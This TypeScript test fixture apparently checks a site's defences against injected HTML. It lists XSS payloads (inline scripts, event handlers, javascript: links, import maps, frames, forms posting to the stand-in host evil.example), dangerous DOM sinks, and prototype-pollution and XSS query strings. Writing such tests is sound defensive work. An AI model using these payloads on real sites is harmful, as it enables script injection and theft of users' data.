/** What somebody might get into a page, and the harm it would do there. */

/** Another site. Whatever asks it gets a script that leaves a mark. */
export const EVIL = 'https://evil.example';
/** A script that leaves a mark on the page. */
const MARK = "void(document.documentElement.dataset.harmed='yes')";

/** HTML planted into a page's text. */
export interface Payload {
  name: string;
  html: string;
  /** What a reader is made to press. */
  press?: string;
}

export const PAYLOADS: readonly Payload[] = [
  { name: 'an inline script', html: `<script>${MARK}</script>` },
  { name: 'an inline module', html: `<script type="module">${MARK}</script>` },
  { name: 'a script in a drawing', html: `<svg><script>${MARK}</script></svg>` },
  { name: 'a script with a nonce nobody gave', html: `<script nonce="abc">${MARK}</script>` },
  { name: 'a script of another site', html: `<script src="${EVIL}/x.js"></script>` },
  {
    name: 'a script of another site without its protocol',
    html: '<script src="//evil.example/x.js"></script>',
  },
  { name: 'a module of another site', html: `<script type="module" src="${EVIL}/x.js"></script>` },
  { name: 'a data: script', html: `<script src="data:text/javascript,${MARK}"></script>` },
  {
    name: 'an import map that exchanges a script',
    html: `<script type="importmap">{"imports":{"x":"${EVIL}/x.js"}}</script><script type="module">import 'x'</script>`,
  },
  { name: 'an event handler of a picture', html: `<img src="/nothing.png" onerror="${MARK}">` },
  { name: 'an event handler of a drawing', html: `<svg onload="${MARK}"></svg>` },
  {
    name: 'an event handler of an animation',
    html: `<svg><animate attributeName="x" dur="1s" onbegin="${MARK}"/></svg>`,
  },
  {
    name: 'an event handler of a field that takes the focus',
    html: `<input autofocus onfocus="${MARK}" aria-label="x">`,
  },
  {
    name: 'an event handler of details',
    html: `<details open ontoggle="${MARK}"><summary>x</summary></details>`,
  },
  {
    name: 'an event handler of a button',
    html: `<button id="bait" onclick="${MARK}">x</button>`,
    press: '#bait',
  },
  { name: 'an event handler of a video', html: `<video src="/nothing.mp4" onerror="${MARK}"></video>` },
  { name: 'a javascript: link', html: `<a id="bait" href="javascript:${MARK}">x</a>`, press: '#bait' },
  {
    name: 'a javascript: link written to be missed',
    html: `<a id="bait" href="java&#9;script&colon;${MARK}">x</a>`,
    press: '#bait',
  },
  {
    name: 'a javascript: form',
    html: `<form action="javascript:${MARK}"><button id="bait">x</button></form>`,
    press: '#bait',
  },
  {
    name: 'a button that sends a form elsewhere',
    html: `<form action="/search/"><button id="bait" formaction="${EVIL}/">x</button></form>`,
    press: '#bait',
  },
  {
    name: 'a form to another site',
    html: `<form action="//evil.example/"><button id="bait">x</button></form>`,
    press: '#bait',
  },
  {
    name: 'a form to another site that posts what it has',
    html: `<form method="post" action="${EVIL}/"><input name="q" value="x"><button id="bait">x</button></form>`,
    press: '#bait',
  },
  { name: 'a base that leads every link elsewhere', html: `<base href="${EVIL}/">` },
  { name: 'a frame of another site', html: `<iframe src="${EVIL}/" title="x"></iframe>` },
  {
    name: 'a frame with a page in it',
    html: `<iframe title="x" srcdoc="<script>${MARK.replace('document', 'parent.document')}</script>"></iframe>`,
  },
  {
    name: 'a javascript: frame',
    html: `<iframe title="x" src="javascript:${MARK.replace('document', 'parent.document')}"></iframe>`,
  },
  {
    name: 'a data: frame',
    html: `<iframe title="x" src="data:text/html,<script src=${EVIL}/x.js></script>"></iframe>`,
  },
  { name: 'an object', html: `<object data="${EVIL}/x.html" type="text/html"></object>` },
  { name: 'an embedded page', html: `<embed src="${EVIL}/x.html" type="text/html">` },
  { name: 'a style attribute', html: '<p class="bait" style="position:fixed;inset:0;z-index:9">x</p>' },
  { name: 'an inline stylesheet', html: '<style>.bait{position:fixed}</style><p class="bait">x</p>' },
  {
    name: 'an inline stylesheet that asks another site',
    html: `<style>main{background:url(${EVIL}/x.png)}</style>`,
  },
  { name: 'an inline stylesheet that imports another', html: `<style>@import "${EVIL}/x.css";</style>` },
  { name: 'a stylesheet of another site', html: `<link rel="stylesheet" href="${EVIL}/x.css">` },
  {
    name: 'a data: stylesheet',
    html: '<link rel="stylesheet" href="data:text/css,.bait{position:fixed}"><p class="bait">x</p>',
  },
  { name: 'a picture of another site', html: `<img src="${EVIL}/x.png" alt="">` },
  { name: 'a picture of another site by size', html: `<img srcset="${EVIL}/x.png 1x" alt="">` },
  { name: 'a picture in a drawing', html: `<svg><image href="${EVIL}/x.png" width="9" height="9"/></svg>` },
  { name: 'a picture as a button', html: `<input type="image" src="${EVIL}/x.png" alt="x">` },
  { name: 'a video of another site', html: `<video src="${EVIL}/x.mp4" preload="auto"></video>` },
  { name: 'a sound of another site', html: `<audio src="${EVIL}/x.mp3" preload="auto"></audio>` },
  { name: 'a file asked for early', html: `<link rel="preload" as="script" href="${EVIL}/x.js">` },
  { name: 'a module asked for early', html: `<link rel="modulepreload" href="${EVIL}/x.js">` },
  {
    name: 'a link that tells another site',
    html: `<a id="bait" href="#text" ping="${EVIL}/">x</a>`,
    press: '#bait',
  },
  {
    name: 'another policy that allows everything',
    html: `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${MARK}</script>`,
  },
];

/** What a script might try that got into one of the site's own files: code, and what must not work. */
export const SINKS: readonly (readonly [string, () => unknown])[] = [
  ['innerHTML', () => (document.createElement('p').innerHTML = '<b>x</b>')],
  ['outerHTML', () => (document.body.appendChild(document.createElement('p')).outerHTML = '<b>x</b>')],
  ['insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>')],
  ['document.write', () => document.write('x')],
  ['DOMParser', () => new DOMParser().parseFromString('<b>x</b>', 'text/html')],
  ['a contextual fragment', () => document.createRange().createContextualFragment('<b>x</b>')],
  ['srcdoc', () => (document.createElement('iframe').srcdoc = 'x')],
  ['the text of a script', () => (document.createElement('script').text = 'x')],
  ['the address of a script', () => (document.createElement('script').src = '/x.js')],
  ['the content of a script', () => (document.createElement('script').textContent = 'x')],
  ['an event handler by name', () => document.createElement('p').setAttribute('onclick', 'x')],
  ['a worker', () => new Worker('/x.js')],
  ['eval', () => (0, eval)('1')],

  ['a new function', () => new Function('return 1')()],

  ['a timer with text', () => setTimeout('1')],
  [
    'a policy of its own',
    () =>
      (
        globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
      ).trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
  ],
];

/** Queries that reach for what is not theirs. */
export const QUERIES: readonly string[] = [
  '__proto__[harmed]=yes',
  '__proto__.harmed=yes&constructor.prototype.harmed=yes',
  'constructor=__proto__&toString=x&hasOwnProperty=1&valueOf=x',
  'q=__proto__&role=__proto__&kind=constructor',
  "q=<img src=x onerror=document.documentElement.dataset.harmed='yes'>",
  "title=<svg onload=document.documentElement.dataset.harmed='yes'>&aim=exact",
  'q=javascript:alert(1)&next=javascript:alert(1)&url=//evil.example',
  'q=%22%3E%3Cscript%20src=//evil.example/x.js%3E%3C/script%3E',
  'aim=__proto__&aim=constructor&aim=exact&people=__proto__',
  'show=__proto__&roles=__proto__,constructor&parts=/%2Fevil.example/,__proto__',
  'q=%00%ED%A0%80%E0%A4%A&x=%',
  'q=' + 'a'.repeat(3000),
];
